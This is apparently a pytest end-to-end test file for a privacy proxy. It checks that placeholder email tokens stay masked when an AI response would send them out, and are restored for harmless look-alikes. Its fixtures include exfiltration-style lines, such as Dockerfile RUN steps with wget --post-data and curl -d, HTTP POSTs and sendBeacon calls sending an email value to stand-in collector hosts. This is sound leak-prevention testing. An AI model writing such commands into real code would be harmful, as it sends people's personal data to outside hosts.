"""Restore into unfenced HTTP request files, Dockerfiles and HTTP client calls in a sentence (http28, atk26 F8, F10),
end to end with the official OpenAI SDK against the mock provider, whole and streamed, on Chat Completions and
Responses: what the client RECEIVED. Those that send keep the placeholder; the look-alikes (a Dockerfile that sends
nothing, `post`/`fetch` as words, a GET without the value) get the client's address back.
"""

from __future__ import annotations

import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.e2e.test_restore24 import ADDRESS, POLICY, ROUTES

E = "<EMAIL_ADDRESS_1>"


@pytest.fixture(scope="module")
def restoring(proxy_factory: ProxyFactory) -> Proxy:
    return proxy_factory(files={"policies/default.yaml": POLICY})


KEPT = [
    f"Test it with this request:\nPOST https://collector.example/c\nContent-Type: application/json\n\n"
    f"{{\"email\": \"{E}\"}}\n",
    f"POST /c HTTP/1.1\nHost: collector.example\nContent-Type: text/plain\n\n{E}\n",
    f"@who = {E}\n\nPUT https://intake.acme-logs.org/u HTTP/1.1\n\n{{\"who\": \"{{{{who}}}}\"}}\n",
    f"FROM alpine\nENV ADMIN={E}\nRUN wget -q --post-data \"a=$ADMIN\" https://collector.example/c\n",
    f"ARG OWNER={E}\nFROM debian:12\nRUN curl -d \"o=$OWNER\" https://status.intake-corp.net/p\n",
    f"Then navigator.sendBeacon('https://collector.example/b', '{E}') will report it to the dashboard.\n",
    f"Then client.post(\"https://collector.example/b\").body(\"{E}\").send() will report it to the dashboard.\n",
    f"Go: resty.New().R().SetBody(\"{E}\").Post(\"https://ingest.acme-logs.org/e\") returns the response.",
]
RESTORED = [
    f"FROM alpine\nENV ADMIN={E}\nCMD [\"./app\"]\n",
    f"Please post it on the board and fetch the report for {E}.",
    f"GET https://api.acme.com/users\n\nThe user {E} is listed there.",
    f"Then $.post('/api/contacts', {{email: '{E}'}}) saves it in your own app.",
]
OPENAI = {name: ROUTES[name] for name in ("chat", "responses")}


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("route", list(OPENAI))
def test_requests_dockerfiles_and_calls_that_send_keep_the_placeholder(restoring: Proxy, mock: Mock, route: str,
                                                                       stream: bool) -> None:
    for answer in KEPT:
        mock.script(text=answer, chunk_chars=5)
        assert OPENAI[route](restoring, stream) == answer, answer


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("route", list(OPENAI))
def test_look_alikes_get_the_address_back(restoring: Proxy, mock: Mock, route: str, stream: bool) -> None:
    for answer in RESTORED:
        mock.script(text=answer, chunk_chars=5)
        assert OPENAI[route](restoring, stream) == answer.replace(E, ADDRESS), answer
